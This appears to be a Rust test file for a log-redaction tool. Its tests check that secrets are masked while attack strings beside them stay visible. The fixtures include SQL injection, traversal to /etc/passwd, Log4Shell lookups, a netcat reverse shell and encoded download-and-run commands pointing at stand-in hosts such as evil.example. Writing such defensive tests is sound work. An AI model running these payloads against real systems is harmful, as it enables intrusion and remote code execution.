//! What attackers write where a secret is expected stays, and the secret beside it does not.

use super::*;

pub(super) fn masked(text: &str) -> String {
    let masked = redactor().redact_text(text);
    assert_eq!(redactor().redact_text(&masked), masked);
    masked
}

#[test]
fn an_attack_in_a_parameter_or_header_that_names_a_secret_stays() {
    for honest in [
        "GET /login.php?user=a&token=1%20UNION%20SELECT%20user%2Cpass%20FROM%20users HTTP/1.1",
        "GET /x?password=1%27%20OR%20%271%27%3D%271&next=2 HTTP/1.1",
        "GET /x?token=..%2f..%2f..%2fetc%2fpasswd HTTP/1.1",
        "GET /x?password=..%2f..%2f..%2fetc%2fpasswd HTTP/1.1",
        "GET /x?api_key=%24%28curl%20http%3A%2F%2F203.0.113.9%2Fa%29 HTTP/1.1",
        "GET /x?token=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D HTTP/1.1",
        "GET /x?password=%3Cscript%3Ealert%281%29%3C%2Fscript%3E HTTP/1.1",
        "GET /x?password=a%3Bcat%20/etc/passwd HTTP/1.1",
        "GET /x?password=`nc+203.0.113.9+443` HTTP/1.1",
        "Cookie: session=${jndi:ldap://203.0.113.9/a}",
        "Authorization: Bearer ${jndi:ldap://203.0.113.9/a}",
        "X-Auth-Token: ${jndi:ldap://203.0.113.9/a}",
    ] {
        assert_eq!(masked(honest), honest);
    }
    for (text, secret) in [
        ("GET /login?user=a&password=Din%20go88%21 HTTP/1.1", "go88"),
        ("GET /login?user=a&token=a8F%2Bk29%2FdkQ03mZpL1 HTTP/1.1", "dkQ03mZpL1"),
        ("GET /login?password=union%20select%20Dingo88 HTTP/1.1", "XXX"),
        ("Cookie: session=a8Fk29dkQ03mZpL1", "a8Fk29dkQ03mZpL1"),
        ("Authorization: Bearer a8Fk29dkQ03mZpL1", "a8Fk29dkQ03mZpL1"),
        ("password=\"Dingo and 88 or more\"", "Dingo"),
        ("x?password=Dingo88xY7%3Bcat%20/etc/passwd", "Dingo88xY7"),
        ("x?password=a%3Bcat%20/tmp/Dingo88xY7abc", "Dingo88xY7"),
        ("Cookie: auth=7|id|8f3k29dkq03mzpl1abc", "8f3k29dkq03"),
        ("Cookie: session=lang%7Cid%7Ca8Fk29dkQ03mZpL1", "a8Fk29dkQ03"),
        ("Cookie: session=${env:X:-a8Fk29dkQ03mZpL1}", "a8Fk29dkQ03"),
        (r#"{"api_token":"7|id|a8Fk29dkQ03mZpL1"}"#, "a8Fk29dkQ03"),
        ("X-Auth-Token: ../../Ab3dEfGh9kLmN0pQ", "Ab3dEfGh9k"),
        (r#"{"user":"bob","password":"Winter9' or '1'='1"}"#, "Winter9"),
        (r#"{"password":"eat and sleep well 99"}"#, "sleep"),
        ("password=\"Sommer|cat\"", "Sommer"),
        ("curl -u \"bob:Wint3r;ps\" http://h/", "Wint3r"),
        ("net user bob \"Wint3r;ps\" /add", "Wint3r"),
        ("reset_token: https://app.example/reset/Ab3dEfGh9k", "Ab3dEfGh9k"),
        ("SLACK_TOKEN=https://hooks.slack.example/a/Ab3dEfGh", "Ab3dEfGh"),
        ("token=https://app.example/r/Ab3d+EfGh9k+LmN9/opQ8rSt", "EfGh9k"),
        (
            "GET /x?token=https://app.example/reset/abcdef12345 HTTP/1.1",
            "abcdef12345",
        ),
        (
            "GET /x?token=https%3A%2F%2Fapp.example%2Fr%2Fabcdef12345 HTTP/1.1",
            "abcdef12345",
        ),
        ("GET /x?token=geheim%3Bcat HTTP/1.1", "geheim"),
        ("GET /x?token=Sommer%7Cid HTTP/1.1", "Sommer"),
        ("Cookie: session=${ab:cd}Hallo99", "Hallo99"),
        ("Cookie: session=${env:HOME}Hallo99", "Hallo99"),
        ("Authorization: Bearer ${ab:cd}Hallo99", "Hallo99"),
        ("GET /x?password=${ab:cd}Hallo99 HTTP/1.1", "Hallo99"),
    ] {
        assert!(!masked(text).contains(secret), "{text}");
    }
}

#[test]
fn a_command_whose_output_is_a_password_stays() {
    for honest in [
        "export PASSWORD=`nc -e /bin/sh 203.0.113.9 443`",
        "PASSWORD=`cat /run/secrets/db`; run",
        "Write-Host hi\r\n$pass = iex (iwr http://evil.example/x.ps1)",
        "Write-Host hi\r\n$pass = Start-Process C:\\Users\\Public\\evil.exe -PassThru",
    ] {
        assert_eq!(masked(honest), honest);
    }
    for (text, secret) in [
        ("the password: `Dingo88xY` is new", "Dingo88xY"),
        ("password=`Dingo 88 xY`", "88"),
        ("PASSWORD=`cat Dingo88xY`", "Dingo88xY"),
        ("id\n$pass = Write-Output \"Dingo88xY\"\nx", "Dingo88xY"),
        (r#"psexec.py "corp/bob":"Dingo88xY7z"@dc1"#, "Dingo88xY7z"),
        ("id\n$pass = find Dingo88xY7z\nx", "Dingo88xY7z"),
        ("id\n$pass = cmd /c echo Dingo88xY7z\nx", "Dingo88xY7z"),
        ("id\n$pass = iex 'Dingo88xY7z'\nx", "Dingo88xY7z"),
        ("sshpass -p \"`echo Dingo88xY`\" ssh h", "Dingo88xY"),
        ("PASSWORD=`sh -c \"echo X\"`", "echo X"),
        ("PASSWORD=`cmd /c echo geheim`", "geheim"),
        ("id\n$pass = cmd /c echo geheim\nx", "geheim"),
        ("Write-Host hi\r\n$pass = 'Dingo 88'", "88"),
        ("Write-Host hi\n$pass = Dingo88", "Dingo88"),
    ] {
        assert!(!masked(text).contains(secret), "{text}");
    }
}

#[test]
fn a_command_behind_an_assignment_is_no_part_of_its_value() {
    for (text, masked_text) in [
        (
            "id\nPASS=a1 nc 203.0.113.9 443 -e /bin/sh",
            "id\nPASS=[REDACTED:password] nc 203.0.113.9 443 -e /bin/sh",
        ),
        (
            "x:\nPGPASSWORD=Red1sPw77 ./deploy",
            "x:\nPGPASSWORD=[REDACTED:password] ./deploy",
        ),
        (
            "x:\nAPI_TOKEN=Red1sPw77 ./deploy",
            "x:\nAPI_TOKEN=[REDACTED:token] ./deploy",
        ),
        (
            "x:\nGITHUB_TOKEN=Red1sPw77 ./deploy",
            "x:\nGITHUB_TOKEN=[REDACTED:token] ./deploy",
        ),
        (
            "x:\nAPI_KEY=Red1sPw77 make all",
            "x:\nAPI_KEY=[REDACTED:token] make all",
        ),
        (
            "x:\nREDISCLI_AUTH=Red1sPw77 ./deploy",
            "x:\nREDISCLI_AUTH=[REDACTED:token] ./deploy",
        ),
        (
            "[wifi]\nPASSPHRASE=correct horse-battery staple\nSSID=x",
            "[wifi]\nPASSPHRASE=[REDACTED:password]\nSSID=x",
        ),
        (
            "[db]\nDB_PASSWORD=my cat is fat\nDB_HOST=x",
            "[db]\nDB_PASSWORD=[REDACTED:password]\nDB_HOST=x",
        ),
        (
            "[db]\nDB_PASSWORD=correct ./horse battery\nDB_HOST=x",
            "[db]\nDB_PASSWORD=[REDACTED:password]\nDB_HOST=x",
        ),
        (
            "x:\nPGPASSWORD=Red1sPw77 ./deploy.sh --all now",
            "x:\nPGPASSWORD=[REDACTED:password] ./deploy.sh --all now",
        ),
        (
            "[db]\npassphrase: Sunny /Day99\nx: y",
            "[db]\npassphrase: [REDACTED:password]\nx: y",
        ),
        (
            "[db]\npassword = Tr0ub -Four 99\nhost = x",
            "[db]\npassword = [REDACTED:password]\nhost = x",
        ),
        ("x\nToken: HTTP401 Unauthorized\nx", "x\nToken: HTTP401 Unauthorized\nx"),
        (
            "x\nauth_token: line42 unexpected end",
            "x\nauth_token: line42 unexpected end",
        ),
        ("[db]\npassword = two words", "[db]\npassword = [REDACTED:password]"),
        ("[db]\npassword: two words", "[db]\npassword: [REDACTED:password]"),
        ("[db]\nDB_PASSWORD=two words", "[db]\nDB_PASSWORD=[REDACTED:password]"),
    ] {
        assert_eq!(masked(text), masked_text);
    }
}

#[test]
fn a_secret_in_an_encoded_command_does_not_hide_the_command() {
    let plain = "iwr http://evil.example/x.exe -OutFile C:\\x.exe; Start-Process C:\\x.exe; $password='abc12345'";
    let wide: Vec<u8> = plain.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encode = |bytes: &[u8]| base64::Engine::encode(&base64::engine::general_purpose::STANDARD, bytes);
    let shell = "curl -u bob:abc12345 http://evil.example/x.exe -o /tmp/x; sh /tmp/x";
    for text in [
        format!("powershell.exe -nop -w hidden -enc {}", encode(&wide)),
        format!("echo {} | base64 -d | sh", encode(shell.as_bytes())),
    ] {
        let mut value = serde_json::json!({ "data": { "command": text } });
        assert_eq!(redactor().redact_json(&mut value), 1);
        let masked = value["data"]["command"].as_str().unwrap().to_owned();
        assert!(
            masked.contains("[DECODED: ") && masked.contains("http://evil.example/x.exe"),
            "{masked}"
        );
        assert!(!masked.contains("abc12345"), "{masked}");
        let once = value.clone();
        assert_eq!(redactor().redact_json(&mut value), 0);
        assert_eq!(value, once);
    }
    // Nobody decodes it: what holds a secret is hidden whole, what holds none stays.
    let mut value = serde_json::json!({ "a": format!("x={}", encode(b"password=abc12345x and more")) });
    redactor().redact_json(&mut value);
    assert_eq!(value["a"], "x=[REDACTED:encoded]");
    let honest = serde_json::json!({ "a": format!("powershell -enc {}", encode(&wide[..160])) });
    let mut value = honest.clone();
    assert_eq!(redactor().redact_json(&mut value), 0);
    assert_eq!(value, honest);
}
